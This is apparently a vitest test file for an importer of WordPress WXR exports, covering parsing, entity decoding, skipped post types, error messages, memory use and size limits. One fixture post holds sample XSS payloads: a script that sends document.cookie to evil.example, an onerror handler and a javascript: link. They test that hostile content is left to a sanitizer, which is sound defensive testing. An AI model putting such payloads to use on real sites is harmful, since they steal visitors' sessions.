import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { ImportFormatError, type ImportReadResult } from './entries.ts'
import { readWordPressExport, withParagraphs, WORDPRESS_MESSAGES } from './wordpress.ts'
import {
  IMPORT_MAX_ITEMS,
  IMPORT_MAX_SIDE_ROWS,
  IMPORT_MESSAGES,
} from '../../contracts/import-constants.ts'
import { PayloadTooLarge } from '../shared/errors.ts'
import { readUntilRefused } from '../../tests/support/import-readers.ts'
import {
  LARGE_WXR_IMAGE,
  LARGE_WXR_POST_HTML,
  WXR_HEAD as HEAD,
  WXR_TAIL as TAIL,
  wxrItem as item,
  writeWordPressExport,
} from '../../tests/support/wordpress-export.ts'

const FIXTURE = path.join(
  import.meta.dirname,
  '../../tests/fakes/fixtures/wordpress/wxr-1.2-export.xml',
)
const dir = mkdtempSync(path.join(tmpdir(), 'wordpress-import-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

let files = 0
function fileWith(content: string | Buffer): string {
  const file = path.join(dir, `export-${++files}.xml`)
  writeFileSync(file, content)
  return file
}

async function readAll(file: string): Promise<ImportReadResult[]> {
  const results: ImportReadResult[] = []
  for await (const result of readWordPressExport(file)) results.push(result)
  return results
}

async function formatError(file: string): Promise<ImportFormatError> {
  const error: unknown = await readAll(file).then(
    () => null,
    (thrown: unknown) => thrown,
  )
  expect(error).toBeInstanceOf(ImportFormatError)
  return error as ImportFormatError
}

describe('readWordPressExport', () => {
  it('reads the posts and pages of a WordPress export, in its order', async () => {
    expect(await readAll(FIXTURE)).toEqual([
      {
        type: 'entry',
        kind: 'post',
        sourceId: 'https://skywatch.example/?p=42',
        title: 'Orion’s Great Nebula',
        slug: 'orions-great-nebula',
        html: `<!-- wp:paragraph -->
<p>Below Orion&#8217;s belt hangs M42, a stellar nursery 1,344 light-years away.</p>
<!-- /wp:paragraph -->

<!-- wp:image {"id":41,"sizeSlug":"large"} -->
<figure class="wp-block-image size-large"><img src="https://skywatch.example/wp-content/uploads/2026/01/m42-orion.jpg" alt="M42 in a 30-second exposure" class="wp-image-41"/></figure>
<!-- /wp:image -->`,
        status: 'published',
        publishedAt: '2026-01-10T22:45:00.000Z',
        excerpt: 'A stellar nursery you can see with binoculars & a dark sky.',
        // Its attachment comes before it in the file.
        featureImageUrl: 'https://skywatch.example/wp-content/uploads/2026/01/m42-orion.jpg',
        tags: ['Deep sky', 'Nebulae', 'Orion'],
        visibility: 'public',
      },
      {
        type: 'entry',
        kind: 'post',
        sourceId: 'https://skywatch.example/?p=43',
        title: 'Totality over the Atlantic',
        slug: 'totality-over-the-atlantic',
        // Classic-editor text gets its paragraphs; the hostile parts are left to the sanitizer.
        html: `<p>The Moon covered the Sun for <strong>1 minute 45 seconds</strong> &amp; the corona glowed.<br />
Clouds stayed away.</p>
<p><script>document.location='https://evil.example/?c='+document.cookie</script><br />
<img src="x" onerror="alert(1)"></p>
<p><a href="javascript:alert('hi')">See the path map</a> &mdash; then the code: if (a ]]> b) stop.</p>`,
        status: 'published',
        publishedAt: '2026-08-12T19:30:00.000Z',
        excerpt: null,
        featureImageUrl: null,
        // Categories and tags both, entities decoded, "Uncategorized" and post formats left out.
        tags: ['Sun & Moon', 'Eclipses'],
        visibility: 'public',
      },
      {
        type: 'entry',
        kind: 'post',
        sourceId: 'https://skywatch.example/?p=44',
        title: 'Les Pléiades à l’œil nu',
        slug: 'les-pleiades-a-loeil-nu',
        html: `<!-- wp:paragraph -->
<p>Six stars, or seven on a good night.</p>
<!-- /wp:paragraph -->`,
        status: 'draft',
        publishedAt: null,
        excerpt: null,
        featureImageUrl: null,
        tags: ['Deep sky'],
        visibility: 'public',
      },
      {
        type: 'entry',
        kind: 'post',
        sourceId: 'https://skywatch.example/?p=45',
        title: 'Observing log: members’ night',
        slug: 'observing-log-members-night',
        html: `<!-- wp:paragraph -->
<p>Where we set up, and what we saw through the 12-inch.</p>
<!-- /wp:paragraph -->`,
        status: 'published',
        publishedAt: '2026-10-24T23:10:00.000Z',
        excerpt: null,
        featureImageUrl: null,
        tags: [],
        visibility: 'members',
      },
      {
        type: 'entry',
        kind: 'post',
        sourceId: 'https://skywatch.example/?p=46',
        title: 'Éclipse totale 2026',
        slug: 'eclipse-totale-2026',
        html: `<!-- wp:paragraph -->
<p>Depuis Burgos, le ciel était parfait.</p>
<!-- /wp:paragraph -->`,
        status: 'published',
        publishedAt: '2026-08-13T06:00:00.000Z',
        excerpt: null,
        // Its attachment comes after it in the file.
        featureImageUrl: 'https://skywatch.example/wp-content/uploads/2026/08/totality-corona.jpg',
        tags: ['Sun & Moon', 'Eclipses'],
        visibility: 'public',
      },
      {
        type: 'entry',
        kind: 'post',
        // No guid: WordPress's default form from the site's address and the post's id.
        sourceId: 'https://skywatch.example/?p=47',
        title: 'Notes for the club',
        slug: 'notes-for-the-club',
        html: '<p>Only for the committee.</p>',
        status: 'draft',
        publishedAt: null,
        excerpt: null,
        featureImageUrl: null,
        tags: [],
        visibility: 'public',
      },
      {
        type: 'entry',
        kind: 'post',
        sourceId: 'https://skywatch.example/?p=48',
        title: 'Geminids peak tonight',
        slug: 'geminids-peak-tonight',
        html: `<!-- wp:paragraph -->
<p>Look east after 22:00.</p>
<!-- /wp:paragraph -->`,
        // Scheduled in WordPress: published with its future date, which the site schedules.
        status: 'published',
        publishedAt: '2026-12-14T17:00:00.000Z',
        excerpt: null,
        featureImageUrl: null,
        tags: [],
        visibility: 'public',
      },
      { type: 'skipped', title: 'Old telescope for sale', reason: WORDPRESS_MESSAGES.trashed },
      {
        type: 'entry',
        kind: 'page',
        sourceId: 'https://skywatch.example/?page_id=2',
        title: 'About',
        slug: 'about',
        html: `<!-- wp:heading -->
<h2 class="wp-block-heading">Who writes here</h2>
<!-- /wp:heading -->

<!-- wp:paragraph -->
<p>An amateur astronomer under Bortle&nbsp;4 skies.</p>
<!-- /wp:paragraph -->`,
        status: 'published',
        publishedAt: '2026-01-01T12:00:00.000Z',
        excerpt: null,
        featureImageUrl: null,
        tags: [],
        visibility: 'public',
      },
      {
        type: 'skipped',
        title: 'Star party: Kielder, March',
        reason: WORDPRESS_MESSAGES.otherType('event'),
      },
    ])
  })

  it('decodes entities outside CDATA once and keeps HTML inside CDATA as written', async () => {
    const file = fileWith(
      HEAD +
        item({
          title: 'Sun &amp;amp; Moon &#8211; a &lt; b',
          'content:encoded': '&lt;p&gt;Escaped &amp;amp; kept&lt;/p&gt;',
          'excerpt:encoded': '<![CDATA[Phases &amp; <em>eclipses</em>]]>',
          'wp:post_name': '',
        }) +
        item(
          {
            guid: 'https://skywatch.example/?p=2',
            title: '<![CDATA[Split ]]]]><![CDATA[> title]]>',
            'content:encoded': '<![CDATA[<p>a]]]]><![CDATA[>b</p>]]>',
            'wp:post_name': '%zz-broken',
            'wp:post_password': 'secret',
            'wp:post_type': 'page',
          },
          '<category domain="category" nicename="x"><![CDATA[Deep &amp; Dark]]></category>',
        ) +
        TAIL,
    )
    expect(await readAll(file)).toMatchObject([
      {
        title: 'Sun & Moon – a < b',
        slug: 'sun-moon-a-b',
        html: '<p>Escaped &amp; kept</p>',
        excerpt: 'Phases & eclipses',
      },
      {
        kind: 'page',
        title: 'Split ]]> title',
        slug: 'zz-broken',
        html: '<p>a]]>b</p>',
        // A page is public: its password keeps it a draft rather than showing it to everyone.
        status: 'draft',
        publishedAt: null,
        visibility: 'public',
        tags: [],
      },
    ])
  })

  it('passes over WordPress machinery without a word, and lists other kinds it leaves out', async () => {
    const file = fileWith(
      HEAD +
        item({ 'wp:post_type': 'revision', 'wp:status': 'inherit' }) +
        item({ title: '<![CDATA[Auto Draft]]>', 'wp:status': 'auto-draft' }) +
        item({ title: '<![CDATA[Footer]]>', 'wp:post_type': 'wp_block' }) +
        item({ title: '<![CDATA[Menu]]>', 'wp:post_type': 'wp_navigation' }) +
        item({ title: '<![CDATA[]]>', 'wp:post_type': 'product' }) +
        item({ title: '<![CDATA[Red torch]]>', 'wp:post_type': 'product' }) +
        item({ title: '<![CDATA[]]>', 'wp:status': 'trash' }) +
        TAIL,
    )
    expect(await readAll(file)).toEqual([
      { type: 'skipped', title: 'Red torch', reason: WORDPRESS_MESSAGES.otherType('product') },
    ])
  })

  it('turns classic-editor paragraphs into <p>, and leaves block content alone', () => {
    expect(withParagraphs('One\nline two\n\n\nThree\r\n\r\nFour')).toBe(
      '<p>One<br />\nline two</p>\n<p>Three</p>\n<p>Four</p>',
    )
    expect(withParagraphs('<h2>Title</h2>\n\nText')).toBe('<h2>Title</h2>\n\nText')
    expect(withParagraphs('  ')).toBe('')
  })

  it.each([
    ['an empty file', '', WORDPRESS_MESSAGES.empty],
    ['a file of blank lines', '\n\n  \n', WORDPRESS_MESSAGES.notWxr],
    [
      'another XML document',
      '<?xml version="1.0"?>\n<note><to>Tove</to></note>',
      WORDPRESS_MESSAGES.notWxr,
    ],
    [
      'an RSS feed',
      '<?xml version="1.0"?><rss version="2.0"><channel><title>Blog</title><item><title>Hi</title></item></channel></rss>',
      WORDPRESS_MESSAGES.plainRss,
    ],
    [
      'a Ghost export',
      JSON.stringify({ db: [{ data: { posts: [] } }] }),
      WORDPRESS_MESSAGES.notWxr,
    ],
    [
      'an export of a format version it does not know',
      HEAD.replaceAll('export/1.2/', 'export/1.9/') + TAIL,
      WORDPRESS_MESSAGES.unknownVersion('1.9'),
    ],
    [
      'a file cut short',
      readFileSync(FIXTURE, 'utf8').slice(0, 9000),
      WORDPRESS_MESSAGES.truncated,
    ],
    [
      'an export without its last tag',
      HEAD + item({}) + '</channel>\n',
      WORDPRESS_MESSAGES.truncated,
    ],
  ])('refuses %s with a message the admin can act on', async (_, content, message) => {
    expect((await formatError(fileWith(content))).message).toBe(message)
  })

  it('refuses a binary file', async () => {
    const bytes = Buffer.alloc(4 * 1024 * 1024)
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919) % 251
    expect((await formatError(fileWith(bytes))).message).toBe(WORDPRESS_MESSAGES.notWxr)
  })

  it('yields nothing from a file cut short, not even the items before the cut', async () => {
    const seen: ImportReadResult[] = []
    const file = fileWith(readFileSync(FIXTURE, 'utf8').slice(0, 20_000))
    await expect(
      (async () => {
        for await (const result of readWordPressExport(file)) seen.push(result)
      })(),
    ).rejects.toThrow(ImportFormatError)
    expect(seen).toEqual([])
  })

  it('reads a 50 MB export holding much less than its size in memory', async ({ annotate }) => {
    const file = path.join(dir, 'large.xml')
    const posts = 5_400
    writeWordPressExport(file, posts)
    const size = statSync(file).size
    expect(size).toBeGreaterThan(50 * 1024 * 1024)

    const before = process.memoryUsage()
    let peakHeap = before.heapUsed
    let peakRss = before.rss
    const sample = () => {
      const now = process.memoryUsage()
      peakHeap = Math.max(peakHeap, now.heapUsed)
      peakRss = Math.max(peakRss, now.rss)
    }
    // The first pass (attachments) yields nothing: the timer samples it between chunks.
    const sampler = setInterval(sample, 2)
    let count = 0
    const started = performance.now()
    for await (const result of readWordPressExport(file)) {
      count++
      if (count % 100 === 0) sample()
      if (count === posts) {
        expect(result).toMatchObject({
          title: `Night ${posts}`,
          html: LARGE_WXR_POST_HTML,
          featureImageUrl: LARGE_WXR_IMAGE,
          tags: ['Log'],
        })
      }
    }
    const seconds = (performance.now() - started) / 1000
    clearInterval(sampler)
    expect(count).toBe(posts)
    const heapGrowth = peakHeap - before.heapUsed
    await annotate(
      `WordPress import of ${(size / 2 ** 20).toFixed(1)} MB: ${seconds.toFixed(1)} s, heap +${(heapGrowth / 2 ** 20).toFixed(1)} MB, rss +${((peakRss - before.rss) / 2 ** 20).toFixed(1)} MB`,
    )
    expect(heapGrowth).toBeLessThan(size / 2)
  })

  describe('limits, before any post is given', () => {
    /** A WXR file of `n` items of `type`, each as small as an item gets. */
    const tiny = (type: string, n: number, extra = '') =>
      Array.from(
        { length: n },
        (_, i) =>
          `<item><title>T${i}</title><guid>g${i}</guid><wp:post_id>${i + 1}</wp:post_id><wp:post_type>${type}</wp:post_type><wp:status>publish</wp:status>${extra.replace('{i}', String(i))}<content:encoded>x</content:encoded></item>\n`,
      ).join('')

    const refusal = (file: string) => readUntilRefused(readWordPressExport, file)

    it(`refuses more than ${IMPORT_MAX_ITEMS} posts and pages`, async () => {
      const file = fileWith(HEAD + tiny('post', IMPORT_MAX_ITEMS - 10) + tiny('page', 11) + TAIL)
      const { error, given } = await refusal(file)
      expect(error).toBeInstanceOf(PayloadTooLarge)
      expect((error as Error).message).toBe(IMPORT_MESSAGES.tooManyItems)
      expect(given).toBe(0)
    })

    it('does not count other post types: 60,000 products beside ten posts are read', async () => {
      const { error, given } = await refusal(
        fileWith(HEAD + tiny('product', 60_000) + tiny('post', 10) + TAIL),
      )
      expect(error).toBeNull()
      expect(given).toBe(60_010)
    })

    it(`refuses more than ${IMPORT_MAX_SIDE_ROWS} attachments`, async () => {
      const attachments = tiny(
        'attachment',
        IMPORT_MAX_SIDE_ROWS + 1,
        '<wp:attachment_url>https://a.example/{i}.jpg</wp:attachment_url>',
      )
      const { error, given } = await refusal(fileWith(HEAD + attachments + tiny('post', 1) + TAIL))
      expect(error).toBeInstanceOf(PayloadTooLarge)
      expect((error as Error).message).toBe(IMPORT_MESSAGES.tooManySideRows)
      expect(given).toBe(0)
    }, 60_000)
  })
})
